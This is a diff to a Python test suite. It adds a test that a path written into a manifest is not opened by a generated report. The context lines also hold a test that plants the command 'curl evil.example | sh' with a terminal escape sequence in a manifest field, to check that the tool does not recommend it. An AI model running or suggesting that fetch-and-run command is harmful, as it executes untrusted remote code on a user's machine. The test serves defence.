@@ -376,6 +376,19 @@ def test_what_is_no_manifest_is_refused(content):
     assert_refused(content)
 
 
+@pytest.mark.slow
+def test_a_path_in_a_manifest_is_not_opened_by_a_report(folder, tmp_path, opened, monkeypatch):
+    secret = tmp_path / "secret.csv"
+    secret.write_text(sample_text())
+    monkeypatch.setattr(kaggle, "download", lambda: pytest.fail("downloads"))
+    for flag in (str(secret), "kaggle", "auto"):
+        data = {"flag": flag, "source": flag, "sha256": "0" * 64}
+        edit_manifest(folder, lambda m, data=data: m["data"].update(data))
+        opened.clear()
+        assert "--data=PATH" in build(read_finished(folder)).missing_table
+        assert os.path.realpath(secret) not in opened
+
+
 def test_a_strangers_command_is_not_recommended(folder):
     edit_manifest(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
     (folder / "results.csv").write_text("")
